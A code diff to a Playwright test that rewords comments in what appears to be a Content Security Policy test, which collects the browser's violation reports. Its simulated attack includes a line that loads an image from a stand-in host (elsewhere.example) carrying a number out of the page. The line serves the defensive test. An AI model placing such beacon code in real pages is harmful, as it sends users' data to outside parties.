@@ -2,7 +2,7 @@
 import { expect, type Page, type Request, test } from '@playwright/test';
 import { long } from '../support/journey.ts';
 
-/** The reports that the browser sends of a page, and what they are answered with. */
+/** The reports that the browser sends about a page, and the answers to them. */
 function reportsOf(page: Page) {
   const answered: { readonly url: string; readonly status: number; readonly directive: string; readonly blocked: string }[] = [];
   page.context().on('requestfinished', async (request: Request) => {
@@ -14,7 +14,7 @@ function reportsOf(page: Page) {
   return answered;
 }
 
-/** What somebody would put into a page who got that far: an image that takes data elsewhere, a script, a text as HTML. */
+/** What an attacker who got that far would put into a page: an image that takes data elsewhere, a script, a text as HTML. */
 async function attack(page: Page): Promise<void> {
   await page.evaluate(() => {
     new Image().src = 'https://elsewhere.example/?number=4242';
